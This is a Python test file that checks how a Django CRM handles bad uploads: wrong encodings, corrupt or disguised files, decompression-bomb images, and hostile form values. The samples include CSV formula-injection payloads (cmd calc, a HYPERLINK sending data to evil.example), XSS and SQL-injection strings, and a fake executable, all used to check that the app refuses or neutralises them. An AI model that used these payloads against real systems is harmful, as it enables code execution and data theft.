"""Bad files everywhere (issue 9): imports, exports and uploads.

Imports go through the API (``POST /api/v1/customers/import/``) and the import page; every
bad file gets a clear message and writes no business row. Decisions written down here:

- A CSV saved by Excel in a Chinese locale is GBK/GB18030: it is decoded, not refused.
- A cell whose text starts with ``=`` is stored as the text it is (names such as
  "+86 …" or "-" are legitimate); a spreadsheet formula in an XLSX is never imported as a
  formula (its calculated value is, or the row is refused when Excel never calculated it);
  every export then neutralises formula-looking text by prefixing ``'``.
- Uploads are checked by their content, never by their name.
"""

from __future__ import annotations

import csv
import io
import os
import re
import struct
import zipfile
import zlib

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import override_settings
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kehu.core.models import Attachment, ImportJob
from kehu.customers.models import Contact, Customer, FollowUp
from kehu.finance.models import ExpenseClaim
from kehu.products.models import Product
from tests import figures
from tests.customers.factories import CustomerFactory

IMPORT_URL = "/api/v1/customers/import/"
EXPORT_URL = "/api/v1/customers/export/"
HEADER = "Name,Mobile,Stage\n"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def snapshot() -> dict[str, int]:
    """The business rows a refused file must leave as they were."""
    return {
        "customers": Customer.all_objects.count(),
        "contacts": Contact.objects.count(),
        "followups": FollowUp.objects.count(),
        "products": Product.all_objects.count(),
        "expenses": ExpenseClaim.objects.count(),
        "attachments": Attachment.objects.count(),
    }


def upload(client, name: str, content: bytes, **fields):
    data = {"file": SimpleUploadedFile(name, content), **fields}
    return client.post(IMPORT_URL, data, format="multipart")


def xlsx_bytes(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def png_bytes(width: int = 2, height: int = 2) -> bytes:
    """A real PNG (its header may claim any size: the data is a few bytes of zeros)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    raw = zlib.compress(b"\x00" * (1 + 3 * min(width, 4)) * min(height, 4))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200


# --- encodings ------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8-sig", "utf-8"])
def test_csv_in_the_encodings_excel_saves_imports_the_chinese_text(org, api_for, encoding):
    name = "北京测试科技有限公司" + ("𠮷" if encoding in ("gb18030", "utf-8-sig") else "")
    content = (HEADER + f"{name},13900000001,won\n").encode(encoding)
    response = upload(api_for(org.sales1), "客户.csv", content)
    assert response.status_code == 200, response.json()
    assert list(Customer.objects.values_list("name", flat=True)) == [name]


def test_utf16_and_binary_csv_are_refused_clearly(org, api_for):
    before = snapshot()
    for content in ((HEADER + "甲,,won\n").encode("utf-16"), b"\x00\x01\x02garbage"):
        response = upload(api_for(org.sales1), "c.csv", content)
        assert response.status_code == 400
        assert "not a CSV or Excel" in response.json()["message"]
    assert snapshot() == before


def test_malformed_csv_is_refused_with_the_line(org, api_for):
    before = snapshot()
    response = upload(api_for(org.sales1), "c.csv", (HEADER + '甲,"unclosed\n乙,,won\n').encode())
    assert response.status_code == 400
    body = response.json()
    assert body["status"] == "failed" and body["created"] == 0
    assert "line" in body["message"] or body["errors"]
    assert snapshot() == before


# --- empty, huge and wrong files -------------------------------------------------------------


def test_empty_file_is_refused(org, api_for):
    before = snapshot()
    response = upload(api_for(org.sales1), "c.csv", b"")
    assert response.status_code == 400
    assert "empty" in str(response.json())
    assert snapshot() == before and not ImportJob.objects.exists()


@override_settings(KEHU_IMPORT_MAX_BYTES=1024 * 1024)
def test_oversized_file_is_refused_before_it_is_stored(org, api_for):
    content = (HEADER + "甲,,won\n" * 200_000).encode()
    assert len(content) > 1024 * 1024
    before = snapshot()
    response = upload(api_for(org.sales1), "c.csv", content)
    assert response.status_code == 400
    assert "larger than 1 MB" in response.json()["message"]
    assert snapshot() == before and not ImportJob.objects.exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_huge_cell_is_refused_with_its_line(org, api_for, fmt):
    huge = "甲" * 1_000_000  # 1 M characters (3 MB in UTF-8)
    if fmt == "csv":
        name, content = "c.csv", (HEADER + f"乙,,won\n{huge},,won\n").encode()
    else:
        name, content = "c.xlsx", xlsx_bytes([["Name", "Mobile", "Stage"], ["乙"], [huge]])
    before = snapshot()
    response = upload(api_for(org.sales1), name, content)
    assert response.status_code == 400
    body = response.json()
    assert body["created"] == 0
    message = body["message"] + " ".join(e["message"] for e in body["errors"])
    assert re.search(r"larger than|longer than|line 3|At most", message), body
    assert snapshot() == before


@pytest.mark.parametrize(
    "name, content, message",
    [
        ("c.xlsx", png_bytes(), "not a valid Excel"),
        ("c.csv", png_bytes(), "not a CSV or Excel"),
        ("c.xlsx", b"PK\x03\x04" + b"\x17garbage" * 100, "Excel file cannot be read"),
        ("c.xlsx", xlsx_bytes([["Name"], ["甲"]])[:700], "Excel file cannot be read"),
        ("c.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "Old Excel files"),
        ("c.xlsx", EXE, "not a valid Excel"),
    ],
    ids=["png-named-xlsx", "png-named-csv", "zip-garbage", "truncated-xlsx", "xls", "exe"],
)
def test_wrong_or_corrupt_files_are_refused_by_content(org, api_for, name, content, message):
    before = snapshot()
    response = upload(api_for(org.sales1), name, content)
    assert response.status_code == 400
    assert message in response.json()["message"], response.json()
    assert snapshot() == before


def test_the_import_page_shows_the_error_and_writes_nothing(org, client_for):
    client = client_for(org.sales1)
    options = {"mode": "all_or_nothing", "duplicate_policy": "skip"}
    before = snapshot()
    response = client.post(
        "/imports/customers/", {"file": SimpleUploadedFile("c.csv", b""), **options}
    )
    assert response.status_code == 400
    assert "empty" in response.content.decode()
    # A PNG named .xlsx is kept as a job; its preview says why it cannot be read.
    response = client.post(
        "/imports/customers/",
        {"file": SimpleUploadedFile("c.xlsx", png_bytes()), **options},
        follow=True,
    )
    assert response.status_code == 200
    assert "not a valid Excel" in response.content.decode()
    assert snapshot() == before


# --- formulas in, formulas out --------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_uncalculated_xlsx_formulas_are_refused_per_row(org, api_for):
    rows = [["Name", "Mobile", "Stage"], ["好客户", "", "won"]]
    rows += [[formula, "", "won"] for formula in FORMULAS[:2]]
    before = snapshot()
    response = upload(api_for(org.sales1), "c.xlsx", xlsx_bytes(rows))
    assert response.status_code == 400
    body = response.json()
    assert [e["line"] for e in body["errors"]] == [3, 4]
    assert all("formula" in e["message"] for e in body["errors"])
    assert snapshot() == before


def _with_cached_formula(content: bytes, cell: str, formula: str, value: str) -> bytes:
    """``content`` with ``cell`` of the first sheet turned into a formula Excel calculated."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                text, count = re.subn(
                    rf'<c r="{cell}"[^>]*>.*?</c>',
                    f'<c r="{cell}" t="str"><f>{formula}</f><v>{value}</v></c>',
                    text,
                )
                assert count == 1
                data = text.encode()
            target.writestr(item, data)
    return out.getvalue()


def test_a_calculated_xlsx_formula_imports_its_value_not_the_formula(org, api_for):
    content = xlsx_bytes([["Name", "Mobile", "Stage"], ["placeholder", "", "won"]])
    formula = "HYPERLINK(&quot;http://evil.example&quot;,&quot;杭州好客户&quot;)"
    content = _with_cached_formula(content, "A2", formula, "杭州好客户")
    response = upload(api_for(org.sales1), "c.xlsx", content)
    assert response.status_code == 200, response.json()
    assert list(Customer.objects.values_list("name", flat=True)) == ["杭州好客户"]


def test_formula_text_in_a_csv_is_kept_as_text_and_neutralised_on_export(org, api_for):
    rows = [[formula, "", "won"] for formula in FORMULAS]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["Name", "Mobile", "Stage"], *rows])
    response = upload(api_for(org.sales1), "c.csv", buffer.getvalue().encode())
    assert response.status_code == 200, response.json()
    stored = set(Customer.objects.values_list("name", flat=True))
    assert stored == {f.strip() for f in FORMULAS}

    exported = api_for(org.admin).get(EXPORT_URL, {"format": "csv"})
    assert exported.status_code == 200
    text = b"".join(exported.streaming_content).decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert sorted(names) == sorted("'" + name for name in stored)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_neutralise_every_formula_looking_cell(org, api_for, fmt):
    for formula in FORMULAS:
        CustomerFactory(owner=org.sales1, name=formula, notes=formula, email="")
    CustomerFactory(owner=org.sales1, name="正常客户", notes="plain")
    response = api_for(org.admin).get(EXPORT_URL, {"format": fmt})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        data_types = {"s"}
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
        data_types = {c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
        assert "f" not in data_types  # not one cell is written as a formula
    dangerous = [
        c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]
    assert dangerous == []
    assert sum(1 for c in cells if isinstance(c, str) and c.startswith("'")) >= len(FORMULAS)
    assert "正常客户" in cells


# --- attachments and images: checked by content -----------------------------------------------


@pytest.mark.parametrize("name", ["invoice.pdf", "photo.png", "photo.jpg", "report.docx", "x.xls"])
def test_an_exe_renamed_as_a_document_is_not_attached(org, api_for, name):
    customer = CustomerFactory(owner=org.sales1)
    before = snapshot()
    response = api_for(org.sales1).post(
        "/api/v1/followups/",
        {"customer": customer.pk, "content": "拜访", "files": [SimpleUploadedFile(name, EXE)]},
        format="multipart",
    )
    assert response.status_code == 400
    assert "not a valid image, PDF or Office document" in str(response.json())
    assert snapshot() == before


def test_an_exe_and_a_script_are_not_attached_to_an_expense(org, api_for):
    from tests.finance.factories import expense_category

    before = snapshot()
    for name, content in (("receipt.png", EXE), ("receipt.exe", EXE), ("a.html", b"<script>")):
        response = api_for(org.sales1).post(
            "/api/v1/expenses/",
            {
                "category": expense_category().pk,
                "amount": "10.00",
                "spent_on": "2026-01-05",
                "description": "出租车",
                "files": [SimpleUploadedFile(name, content)],
            },
            format="multipart",
        )
        assert response.status_code == 400, response.json()
        assert "files" in response.json()
    assert snapshot() == before


def test_an_empty_and_an_oversized_attachment_are_refused(org, api_for, monkeypatch):
    from kehu.core import attachments

    monkeypatch.setattr(attachments, "MAX_ATTACHMENT_SIZE", 4096)
    customer = CustomerFactory(owner=org.sales1)
    before = snapshot()
    pdf = b"%PDF-1.4\n" + b"0" * 5000
    for name, content, message in (
        ("a.pdf", b"", "empty"),
        ("a.pdf", pdf, "larger than"),
    ):
        response = api_for(org.sales1).post(
            "/api/v1/followups/",
            {"customer": customer.pk, "content": "x", "files": [SimpleUploadedFile(name, content)]},
            format="multipart",
        )
        assert response.status_code == 400
        assert message in str(response.json())
    assert snapshot() == before


def test_a_decompression_bomb_image_is_refused_not_a_500(org, api_for):
    """A PNG claiming 30,000 × 30,000 pixels (a few bytes on disk) is refused clearly."""
    customer = CustomerFactory(owner=org.sales1)
    bomb = png_bytes(30_000, 30_000)
    before = snapshot()
    response = api_for(org.sales1).post(
        "/api/v1/followups/",
        {"customer": customer.pk, "content": "x", "files": [SimpleUploadedFile("a.png", bomb)]},
        format="multipart",
    )
    assert response.status_code == 400
    assert snapshot() == before


def test_product_images_are_checked_by_content(org, api_for, client_for):
    from kehu.products import services

    bomb = png_bytes(30_000, 30_000)
    before = snapshot()
    for name, content in (("p.png", EXE), ("p.jpg", b"<svg onload=alert(1)>"), ("p.png", bomb)):
        with pytest.raises(services.ServiceError) as refused:
            services.product_image_validate(SimpleUploadedFile(name, content))
        assert refused.value.field == "image"
        response = client_for(org.admin).post(
            "/products/new/",
            {
                "code": "P-BAD",
                "name": "坏图片",
                "status": "active",
                "list_price": "1",
                "cost_price": "1",
                "currency": "CNY",
                "tax_rate": "13",
                "image": SimpleUploadedFile(name, content),
            },
        )
        assert response.status_code in (200, 400)
        assert "image" in response.context["form"].errors
    assert snapshot() == before


# --- hostile values in the main forms and their API twins -------------------------------------

SPECIAL_VALUES = [
    "",
    " ",
    "-1",
    "-0.01",
    "0",
    "1e308",
    "9" * 40,
    "-" + "9" * 40,
    "1e-400",
    "NaN",
    "nan",
    "sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    "1.123456789",
    "0.0000001",
    "١٢٣",  # Arabic-Indic digits: str.isdigit() is true, and int() reads them
    "１２３",  # full-width digits
    "²",  # isdigit() is true, int() refuses it
    "½",
    "\x00",
    "abc\x00def",
    "\x01\x1f\x7f",
    "\u202etxt.exe",
    "𠮷" * 50,
    "x" * 100_000,
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "2026-02-30",
    "9999-12-31T23:59",
    "0000-00-00",
    '=HYPERLINK("http://evil.example")',
]
HOSTILE = st.one_of(
    st.sampled_from(SPECIAL_VALUES),
    st.text(max_size=30),
    st.integers().map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    st.floats().map(repr),
)
FORM_SETTINGS = settings(
    max_examples=int(os.environ.get("KEHU_BAD_INPUT_EXAMPLES", "25")),
    derandomize=True,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)


def _customer_form(org):
    return (
        "/customers/new/",
        {"kind": "company", "name": "甲公司", "stage": "potential"},
        [
            "name",
            "short_name",
            "phone",
            "mobile",
            "email",
            "website",
            "province",
            "city",
            "notes",
            "tags_text",
            "owner",
            "industry",
            "source",
            "level",
            "stage",
            "kind",
        ],
    )


def _contact_form(org):
    customer = CustomerFactory(owner=org.admin)
    return (
        f"/customers/{customer.pk}/contacts/",
        {"contact-name": "王经理"},
        [
            f"contact-{n}"
            for n in ["name", "title", "phone", "mobile", "email", "wechat", "birthday"]
        ],
    )


def _followup_form(org):
    customer = CustomerFactory(owner=org.admin)
    base = {"followup-content": "电话沟通", "followup-happened_at": "2026-03-01T10:00"}
    return (
        f"/customers/{customer.pk}/followups/",
        base,
        [
            f"followup-{n}"
            for n in [
                "method",
                "contact",
                "happened_at",
                "content",
                "next_followup_at",
                "next_action",
            ]
        ],
    )


def _product_form(org):
    base = {
        "code": "NEW-1",
        "name": "新打印机",
        "status": "on_sale",
        "list_price": "100.00",
        "cost_price": "80.00",
        "currency": "CNY",
        "tax_rate": "13",
        "low_stock_threshold": "2",
    }
    fields = [
        "code",
        "name",
        "specification",
        "category",
        "unit",
        "status",
        "list_price",
        "cost_price",
        "currency",
        "tax_rate",
        "barcode",
        "low_stock_threshold",
        "description",
    ]
    return "/products/new/", base, fields


def _contract_form(org):
    from tests.products.factories import ProductFactory

    customer = CustomerFactory(owner=org.admin)
    product = ProductFactory()
    base = {
        "customer": customer.pk,
        "title": "年度采购合同",
        "currency": "CNY",
        "signed_on": "2026-03-01",
        "line-1-product": product.pk,
        "line-1-quantity": "2",
        "line-1-unit_price": "100.00",
    }
    fields = [
        "customer",
        "title",
        "signed_on",
        "start_date",
        "end_date",
        "currency",
        "contact",
        "opportunity",
        "line-1-product",
        "line-1-quantity",
        "line-1-unit_price",
        "line-1-discount_rate",
        "line-1-tax_rate",
        "line-2-quantity",
        "line-999999-product",
    ]
    return "/sales/contracts/new/", base, fields


def _sales_snapshot() -> dict[str, int]:
    from kehu.sales.models import Contract, ContractLine

    return {
        **snapshot(),
        "contracts": Contract.objects.count(),
        "lines": ContractLine.objects.count(),
    }


@pytest.mark.parametrize(
    "form",
    [_customer_form, _contact_form, _followup_form, _product_form, _contract_form],
    ids=["customer", "contact", "followup", "product", "contract"],
)
def test_hostile_values_in_the_main_forms(org, client_for, form):
    """Each example posts the form with one field replaced: a clear error on the page and
    nothing written, or (for a value that is fine) a normal save; never a server error."""
    url, base, fields = form(org)
    client = client_for(org.admin)
    assert client.post(url, base).status_code in (204, 302), "the base form must save"
    outcomes = {"saved": 0, "refused": 0}

    @FORM_SETTINGS
    @given(field=st.sampled_from(fields), value=HOSTILE)
    def post(field, value):
        with transaction.atomic():
            before = _sales_snapshot()
            response = client.post(url, {**base, field: value}, HTTP_HX_REQUEST="true")
            assert response.status_code in (200, 204, 302, 400), (field, value)
            if response.status_code in (200, 400):
                page = response.content.decode()
                markers = ("is-invalid", "invalid-feedback", "alert")  # field, line, form
                assert any(marker in page for marker in markers), (field, value)
                assert _sales_snapshot() == before, (field, value)
                outcomes["refused"] += 1
            else:
                outcomes["saved"] += 1
            transaction.set_rollback(True)

    post()
    figures.record("bad input form posts", sum(outcomes.values()))
    assert outcomes["refused"] > 0


def _api_cases(org):
    from tests.finance.factories import expense_category
    from tests.products.factories import ProductFactory

    customer = CustomerFactory(owner=org.admin)
    product = ProductFactory()
    line = {"product": product.pk, "quantity": "2", "unit_price": "100.00"}
    return [
        ("/api/v1/customers/", {"kind": "company", "name": "甲公司", "stage": "potential"}),
        ("/api/v1/contacts/", {"customer": customer.pk, "name": "王经理"}),
        ("/api/v1/followups/", {"customer": customer.pk, "content": "电话沟通"}),
        (
            "/api/v1/products/",
            {"code": "API-1", "name": "打印机", "list_price": "10", "unit": product.unit_id},
        ),
        ("/api/v1/contracts/", {"customer": customer.pk, "title": "合同", "lines": [line]}),
        (
            "/api/v1/expenses/",
            {
                "category": expense_category().pk,
                "amount": "10.00",
                "spent_on": "2026-01-05",
                "description": "出租车",
            },
        ),
    ]


def test_hostile_values_in_the_api(org, api_for):
    """The same values in JSON bodies: 201 or a 400 naming the field; never a 500."""
    client = api_for(org.admin)
    cases = _api_cases(org)
    for url, base in cases:
        response = client.post(url, base, format="json")
        assert response.status_code == 201, (url, response.json())
    line_fields = ["quantity", "unit_price", "discount_rate", "tax_rate", "product"]

    @FORM_SETTINGS
    @given(
        case=st.sampled_from(cases),
        field=st.text(max_size=0)
        | st.sampled_from(
            [
                "name",
                "mobile",
                "email",
                "amount",
                "list_price",
                "quantity",
                "title",
                "customer",
                "spent_on",
                "code",
                "content",
                "next_followup_at",
                "lines",
            ]
            + line_fields
        ),
        value=HOSTILE,
    )
    def post(case, field, value):
        url, base = case
        body = {**base}
        if field in line_fields and "lines" in base:
            body["lines"] = [{**base["lines"][0], field: value}]
        elif field:
            body[field] = value
        with transaction.atomic():
            before = _sales_snapshot()
            response = client.post(url, body, format="json")
            assert response.status_code in (201, 400), (url, field, value, response.status_code)
            if response.status_code == 400:
                assert _sales_snapshot() == before
                errors = response.json()
                assert isinstance(errors, dict) and errors, errors
            transaction.set_rollback(True)

    post()
